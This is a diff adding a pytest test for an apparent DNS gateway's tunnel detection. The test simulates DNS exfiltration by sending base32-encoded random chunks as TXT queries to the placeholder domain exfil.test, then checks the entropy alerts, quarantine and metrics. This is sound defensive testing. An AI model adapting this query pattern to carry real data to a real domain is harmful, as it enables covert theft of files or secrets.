@@ -2,7 +2,9 @@
 
 from __future__ import annotations
 
+import base64
 import json
+import random
 from collections.abc import Iterator
 from pathlib import Path
 
@@ -152,5 +154,25 @@ def test_readyz_fails_without_a_healthy_upstream(unbound_upstream: Unbound, tmp_
         assert (status, body) == (503, b"not ready: no healthy upstream\n")
         assert http_get(base + "/healthz")[0] == 200
         assert metric_value(http_get(base + "/metrics")[1].decode(), "dnsgate_ready") == 0.0
+    finally:
+        assert server.stop() == 0
+
+
+def test_tunnel_alerts_and_quarantines_are_counted(unbound_upstream: Unbound, tmp_path: Path) -> None:
+    port, admin_port = free_port(), free_tcp_port()
+    text = with_admin(basic_config(port, unbound_upstream.port), admin_port) + "detection: {mode: enforce}\n"
+    server = start_dnsgate(text, tmp_path, port)
+    try:
+        rng = random.Random(5)
+        for _ in range(60):  # base32 chunks of 35 random bytes: an exfiltration channel
+            chunk = base64.b32encode(rng.randbytes(35)).decode().rstrip("=").lower()
+            ask(port, f"{chunk[:50]}.{chunk[50:]}.t.exfil.test", "TXT")
+        text = http_get(f"http://127.0.0.1:{admin_port}/metrics")[1].decode()
+        assert (metric_value(text, "dnsgate_tunnel_alerts_total", namespace="agents", reason="entropy") or 0) >= 1
+        assert metric_value(text, "dnsgate_quarantines_active") == 1.0
+        quarantined = metric_value(text, "dnsgate_queries_total", namespace="agents", action="quarantined",
+                                   qtype="TXT")
+        assert quarantined is not None and quarantined >= 1
+        assert "exfil" not in text
     finally:
         assert server.stop() == 0
